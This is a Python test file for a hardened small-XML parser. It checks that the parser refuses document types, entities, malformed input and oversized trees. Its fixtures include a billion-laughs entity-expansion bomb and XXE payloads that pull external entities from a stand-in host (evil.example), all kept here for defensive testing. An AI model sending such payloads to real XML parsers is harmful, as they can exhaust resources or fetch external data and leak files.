"""XML from strangers: a bounded tree, no document type, no entities."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from linksec_tui.formats.small_xml import MAX_DEPTH, MAX_ELEMENTS, MAX_OCTETS, MAX_TEXT, NotSmallXml, parse_small_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<lolz>&lol3;</lolz>"""


def test_elements_attributes_and_text_are_read() -> None:
    root = parse_small_xml(b'<a x="1"> one <b>two</b><b/> &amp; three<!-- no --></a>')
    assert (root.name, root.attributes["x"], root.text) == ("a", "1", "one  & three")
    assert [each.text for each in root.all("b")] == ["two", ""]
    assert root.text_of("b") == "two"
    assert root.text_of("c") == ""


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "iso-8859-1"])
def test_the_encodings_of_the_standard_are_read(encoding: str) -> None:
    assert parse_small_xml(f'<?xml version="1.0" encoding="{encoding}"?><a>Grüße</a>'.encode(encoding)).text == "Grüße"


@pytest.mark.parametrize(
    "octets",
    [
        BILLION_LAUGHS,
        b'<!DOCTYPE a SYSTEM "http://evil.example/x"><a/>',
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "http://evil.example/x">]><a>&x;</a>',
        b'<!DOCTYPE a [<!ENTITY % p SYSTEM "https://evil.example/p"> %p;]><a/>',
        b"<!DOCTYPE a><a/>",
    ],
    ids=["billion laughs", "system", "external entity", "parameter entity", "bare"],
)
def test_a_document_type_is_refused_before_anything_in_it_counts(octets: bytes) -> None:
    with pytest.raises(NotSmallXml, match="document type"):
        parse_small_xml(octets)


@pytest.mark.parametrize(
    "octets",
    [
        b"",
        b"not xml",
        b"<a>",
        b"<a></b>",
        b"<a/><a/>",
        b"<a>&nope;</a>",
        b"<a>\x00</a>",
        b'<?xml version="1.0" encoding="ebcdic-of-mars"?><a/>',
        b"\xff\xfe<a/>",
        b"<a " + b"x='1' " * 2 + b"/>",
        b"<" + b"a" * MAX_OCTETS + b"/>",
        b"<a>" + b"x" * (MAX_TEXT + 1) + b"</a>",
        b"<a>" * (MAX_DEPTH + 1) + b"</a>" * (MAX_DEPTH + 1),
        b"<a>" + b"<b/>" * MAX_ELEMENTS + b"</a>",
        b"<a>" * 60_000,
    ],
    ids=range(15),
)
def test_what_is_no_small_xml_is_refused(octets: bytes) -> None:
    with pytest.raises(NotSmallXml):
        parse_small_xml(octets)


@given(st.binary(max_size=300) | st.text(alphabet="<>/ab=\"'&;![]-? \x00é", max_size=80).map(str.encode))
def test_whatever_comes_is_a_tree_or_refused(octets: bytes) -> None:
    try:
        root = parse_small_xml(octets)
    except NotSmallXml:
        return
    assert root.name
